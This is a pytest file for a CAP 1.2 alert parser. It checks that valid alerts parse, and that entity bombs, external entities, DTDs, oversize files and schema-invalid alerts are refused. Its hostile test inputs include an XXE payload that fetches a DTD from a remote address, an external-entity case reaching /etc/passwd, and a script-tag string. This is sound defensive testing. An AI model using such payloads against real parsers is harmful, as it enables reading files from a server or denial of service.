"""CAP 1.2 in, the parse: the OASIS examples and our Chinese warnings pass the official schema; entity
bombs, external entities, DTDs, oversize documents, non-CAP and schema-invalid alerts are refused
with a reason, and a 20 MB alert costs no more memory than the limit."""

from __future__ import annotations

import hashlib
import tracemalloc

import pytest

from console.bridges.cap.alert import parse_alert
from console.bridges.cap.safe_xml import Reason, Refused, parse_xml, read_file_limited
from console.resources import resource
from tests.bridges.cap_files import BILLION_LAUGHS, CN, EXTERNAL_ENTITY, OASIS, fixture, huge_alert

XSD_SHA256 = "f6c6ed7537a463968b7b36110f7e8bba1f86ad2257a8b84619d7dce530e57401"  # resources/cap/README.md


def refused(data: bytes, **kw) -> Refused:
    with pytest.raises(Refused) as info:
        parse_alert(data, **kw)
    return info.value


def test_the_shipped_schema_is_the_one_documented():
    assert hashlib.sha256(resource("cap", "CAP-v1.2.xsd").read_bytes()).hexdigest() == XSD_SHA256


@pytest.mark.parametrize("path", sorted(OASIS.glob("*.xml")) + sorted(CN.glob("*.xml")), ids=lambda p: p.name)
def test_every_fixture_is_valid_cap12(path):
    alert = parse_alert(path.read_bytes())
    assert alert.identifier and alert.infos


def test_oasis_examples_read_as_the_standard_prints_them():
    a2 = parse_alert(fixture("a2_severe_thunderstorm.xml"))
    assert (a2.identifier, a2.sender, a2.msg_type) == ("KSTO1055887203", "KSTO@NWS.NOAA.GOV", "Alert")
    assert a2.sent == 1055887020.0  # 2003-06-17T14:57:00-07:00
    info = a2.infos[0]
    assert (info.severity, info.urgency, info.certainty) == ("Severe", "Immediate", "Observed")
    assert info.expires == 1055890800.0  # 16:00 -07:00
    assert info.areas[0].polygons[0][0] == (38.47, -120.14) and len(info.areas[0].polygons[0]) == 5
    assert info.areas[0].geocodes == (("SAME", "006109"), ("SAME", "006009"), ("SAME", "006003"))
    a3 = parse_alert(fixture("a3_earthquake_update.xml"))
    assert a3.references == (("trinet@caltech.edu", "TRI13970876.1", "2003-06-11T20:30:00-07:00"),)
    assert a3.infos[0].areas[0].circles == ((32.9525, -115.5527, 0.0),)
    a4 = parse_alert(fixture("a4_amber_alert.xml"))
    assert [i.language for i in a4.infos] == ["en-US", "es-US"]


def test_entity_bombs_external_entities_and_dtds_are_refused_with_their_reason():
    assert refused(BILLION_LAUGHS).reason is Reason.ENTITY_DECLARATION
    r = refused(EXTERNAL_ENTITY)
    assert r.reason is Reason.EXTERNAL_ENTITY and "/etc/passwd" in r.detail
    param = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;]><a/>'
    assert refused(param).reason is Reason.EXTERNAL_ENTITY
    dtd_only = fixture("a1_homeland_security.xml").replace(b"<alert ", b'<!DOCTYPE alert SYSTEM "cap.dtd">\n<alert ', 1)
    assert refused(dtd_only).reason is Reason.DTD


def test_oversize_documents_are_refused_before_parsing_and_memory_stays_flat(tmp_path):
    big = huge_alert(tmp_path / "huge.xml", mb=20)
    assert big.stat().st_size > 20 << 20
    tracemalloc.start()
    try:
        with pytest.raises(Refused) as info:
            read_file_limited(big, max_bytes=2 << 20)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert info.value.reason is Reason.TOO_LARGE
    assert peak < 4 << 20  # nothing like the file's 20 MB was held
    small = fixture("a1_homeland_security.xml")
    assert refused(small, max_bytes=len(small) - 1).reason is Reason.TOO_LARGE
    assert parse_alert(small, max_bytes=len(small)).identifier == "43b080713727"


@pytest.mark.parametrize(("data", "reason"), [
    (b"", Reason.NOT_XML),
    (b"<alert", Reason.NOT_XML),
    (b"\xff\xfe<not utf", Reason.NOT_XML),
    (b'<feed xmlns="http://www.w3.org/2005/Atom"/>', Reason.NOT_CAP),
    (b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.1"><identifier>x</identifier></alert>', Reason.NOT_CAP),
])
def test_what_is_not_a_cap12_alert_says_so(data, reason):
    assert refused(data).reason is reason


@pytest.mark.parametrize(("old", "new", "reason"), [
    (b"<status>Actual</status>", b"<status>Real</status>", Reason.SCHEMA),  # not in the enumeration
    (b"<sent>2003-06-17T14:57:00-07:00</sent>", b"<sent>2003-06-17 14:57</sent>", Reason.SCHEMA),
    (b"<identifier>KSTO1055887203</identifier>", b"", Reason.SCHEMA),  # required
    (b"<urgency>Immediate</urgency>", b"<urgency>Now</urgency>", Reason.SCHEMA),
    (b"38.47,-120.14 38.34,-119.95", b"38.47,-120.14 98.34,-119.95", Reason.BAD_CONTENT),  # off the globe
    (b"38.62,-119.89 38.47,-120.14</polygon>", b"38.62,-119.89</polygon>", Reason.BAD_CONTENT),  # not closed
])
def test_schema_invalid_and_unusable_alerts_are_refused(old, new, reason):
    data = fixture("a2_severe_thunderstorm.xml")
    assert old in data
    r = refused(data.replace(old, new, 1))
    assert r.reason is reason, r


def test_parse_xml_keeps_markup_in_text_as_text():
    root = parse_xml(fixture("heat_yellow_street.xml"))
    desc = next(e for e in root.iter() if e.tag.endswith("description"))
    assert "<script>alert(1)</script>" in desc.text
